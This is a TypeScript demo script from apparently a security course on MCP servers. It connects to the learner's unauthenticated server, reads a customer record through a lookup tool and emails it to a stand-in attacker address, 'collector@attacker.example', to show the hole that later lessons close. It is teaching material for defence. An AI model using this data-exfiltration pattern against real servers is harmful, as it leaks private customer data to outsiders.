/**
 * Lesson 1's demo, run by `npm run lesson:1` once the learner's server listens: a client with no
 * credentials at all reads a customer's record and mails it to an outsider.
 *
 * It never throws: when a step fails (the starter is not finished yet) it says which TODO to finish.
 */
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';

export interface DemoContext {
  mcpUrl: URL;
  log: (line: string) => void;
}

const CUSTOMER_ID = 'C-1001';
const OUTSIDER = 'collector@attacker.example';

export async function demo(ctx: DemoContext): Promise<void> {
  const { log } = ctx;
  const stuck = (what: string, error: unknown, todo: string) =>
    log(`${what} (${reason(error)}). That is expected until you finish ${todo} in lessons/01-open-server/server.ts; then run: npm run check:1`);

  const client = new Client({ name: 'lesson-1-demo', version: '1.0.0' });
  try {
    try {
      await client.connect(new StreamableHTTPClientTransport(ctx.mcpUrl));
    } catch (error) {
      return stuck(`Could not connect to ${ctx.mcpUrl.href}`, error, 'TODO 1.4');
    }
    log(`Connected to ${ctx.mcpUrl.href} without any credentials: no token, no key, no password.`);

    let tools: string[];
    try {
      tools = (await client.listTools()).tools.map((tool) => tool.name);
    } catch (error) {
      return stuck('The server lists no tools', error, 'TODOs 1.1–1.3');
    }
    log(`Tools on offer to anyone: ${tools.join(', ') || '(none)'}.`);

    let record: string;
    try {
      record = await callTool(client, 'lookup_customer', { customerId: CUSTOMER_ID });
    } catch (error) {
      return stuck(`Could not look up ${CUSTOMER_ID}`, error, 'TODO 1.1');
    }
    log(`Read customer ${CUSTOMER_ID}: ${summarize(record)}`);

    let receipt: string;
    try {
      receipt = await callTool(client, 'send_email', {
        to: OUTSIDER,
        subject: `Customer ${CUSTOMER_ID}`,
        body: record,
      });
    } catch (error) {
      return stuck('Could not send mail', error, 'TODO 1.3');
    }
    const messageId = /msg-\d+/.exec(receipt)?.[0] ?? 'a message';
    log(`Sent mail ${messageId} with that record to ${OUTSIDER} — nobody asked who we are.`);
    log('Anyone who can reach this port can do the same. Lessons 2–4 close the hole. Next: npm run check:1');
  } finally {
    await client.close().catch(() => undefined);
  }
}

/** The tool's text; a tool error becomes an exception so the caller can name the TODO. */
async function callTool(client: Client, name: string, args: Record<string, unknown>): Promise<string> {
  const result = (await client.callTool({ name, arguments: args })) as CallToolResult;
  const text = result.content
    .flatMap((block) => (block.type === 'text' ? [block.text] : []))
    .join('\n');
  if (result.isError) throw new Error(`${name} answered with an error: ${text}`);
  return text;
}

/** One short line about the record, whatever shape the learner chose for it. */
function summarize(record: string): string {
  try {
    const customer = JSON.parse(record) as Record<string, unknown>;
    const credit = typeof customer.creditLimitUsd === 'number' ? `, credit limit $${customer.creditLimitUsd.toLocaleString('en-US')}` : '';
    if (typeof customer.name === 'string') return `${customer.name} (${String(customer.company)})${credit}, and the internal notes.`;
  } catch {
    // Not JSON: show the start of the text instead.
  }
  const line = record.replace(/\s+/g, ' ').trim();
  return line.length > 100 ? `${line.slice(0, 100)}…` : line;
}

function reason(error: unknown): string {
  const status = (error as { code?: unknown }).code;
  if (typeof status === 'number' && status >= 400) return `the server answered HTTP ${status}`;
  return String(error instanceof Error ? error.message : error).split('\n')[0]!;
}
